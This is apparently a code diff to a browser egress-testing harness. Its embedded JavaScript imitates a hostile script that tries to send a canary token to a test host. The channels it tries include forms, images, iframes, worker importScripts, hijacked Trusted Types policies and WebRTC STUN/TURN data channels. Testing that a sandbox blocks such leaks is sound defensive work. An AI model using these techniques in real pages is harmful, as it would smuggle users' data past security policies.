@@ -51,7 +51,7 @@ const anywhere = {
 
 # A policy of Trusted Types for whoever gets one made: a hostile script would try each name that the page allows.
 _TRUSTED = """
-const policies = (realm) => ['edgeweb', 'lit-html', 'default', 'egress'].flatMap((name) => {
+const policies = (realm) => realm.policiesMade ??= ['edgeweb', 'lit-html', 'default', 'egress'].flatMap((name) => {
   try {
     return [realm.trustedTypes.createPolicy(name, { createScriptURL: (url) => url, createHTML: (text) => text, createScript: (text) => text })]
   } catch {
@@ -61,7 +61,7 @@ const policies = (realm) => ['edgeweb', 'lit-html', 'default', 'egress'].flatMap
 """
 
 IN_PAGE = (
-    "async ([target, canary, stun]) => {"
+    "async ([target, canary]) => {"
     + _COMMON
     + _TRUSTED
     + """
@@ -81,13 +81,6 @@ const add = (tag, attributes, parent = document.body) => {
 }
 const inHead = (tag, attributes) => { add(tag, attributes, document.head) }
 const link = (rel, more = {}) => (url) => inHead('link', { rel, href: url, ...more })
-const connect = async (Connection, channel) => {
-  const servers = [{ urls: `stun:${stun}` }, { urls: `turn:${new URL(target).host}?transport=tcp`, username: token(channel), credential: 'x' }]
-  const connection = new Connection({ iceServers: servers })
-  connection.createDataChannel('egress')
-  await connection.setLocalDescription(await connection.createOffer())
-  await new Promise((done) => setTimeout(done, 400))
-}
 const form = (method, more = {}) => (url, body) => {
   const element = add('form', { action: url, method, target: add('iframe', { name: `egress-${method}` }).name, ...more })
   add('input', { name: 'canary', value: body }, element)
@@ -149,12 +142,31 @@ const page = {
   frameimage: (url) => { new inner.Image().src = url },
   framenavigation: (url) => { const other = add('iframe', {}); other.contentWindow.location = url },
   srcdoc: (url) => { const other = add('iframe', {}); other.srcdoc = found?.createHTML(`<img src="${url}">`) ?? `<img src="${url}">` },
-  webrtc: () => connect(RTCPeerConnection, 'webrtc'),
-  framewebrtc: () => connect(inner.RTCPeerConnection, 'framewebrtc'),
 }
 await Promise.all(Object.entries(page).map(([name, work]) => settle(async () => work(at(name), token(name)))))
 await new Promise((done) => setTimeout(done, 300))
 return Object.keys(page)
+}"""
+)
+
+# By UDP, and by TURN over TCP: the page's own means, and those of a frame that it makes.
+WEBRTC = (
+    "async ([target, canary]) => {"
+    + _COMMON
+    + """
+const frame = document.createElement('iframe')
+document.body.append(frame)
+const connect = async (Connection, channel) => {
+  const servers = [{ urls: `stun:${new URL(target).host}` }, { urls: `turn:${new URL(target).host}?transport=tcp`, username: token(channel), credential: 'x' }]
+  const connection = new Connection({ iceServers: servers })
+  connection.createDataChannel('egress')
+  await connection.setLocalDescription(await connection.createOffer())
+  await new Promise((done) => setTimeout(done, 400))
+}
+for (const [name, realm] of [['webrtc', globalThis], ['framewebrtc', frame.contentWindow]]) {
+  await settle(() => connect(realm.RTCPeerConnection, name))
+}
+return ['webrtc', 'framewebrtc']
 }"""
 )
 
@@ -185,10 +197,13 @@ const trusted = (url) => found?.createScriptURL(url) ?? url
 """
     + _ANYWHERE
     + """
-anywhere.importscripts = (url) => importScripts(trusted(url))
-await Promise.all(Object.entries(anywhere).map(([name, work]) => settle(async () => work(at('w' + name), token('w' + name)))))
+const attempt = ([name, work]) => settle(async () => work(at('w' + name), token('w' + name)))
+await Promise.all(Object.entries(anywhere).map(attempt))
+// After the others: it blocks this worker, and with it the answers that hold the connections.
+const last = ['importscripts', (url) => importScripts(trusted(url))]
+await attempt(last)
 await new Promise((done) => setTimeout(done, 300))
-return Object.keys(anywhere).map((name) => 'w' + name)
+return [...Object.keys(anywhere), last[0]].map((name) => 'w' + name)
 }"""
 )
 
@@ -207,6 +222,7 @@ IN_HOSTILE_WORKER = (
   const worker = new realm.Worker(found?.createScriptURL(url) ?? url)
   worker.onmessage = ({ data }) => resolve(data)
   worker.onerror = (event) => resolve([`did not start: ${event.message}`])
+  setTimeout(() => resolve(['did not answer']), 10_000)
   worker.postMessage(given)
 })""".replace("${WORKER}", _WORKER.replace("\\", "\\\\").replace("`", "\\`").replace("${", "\\${"))
 )
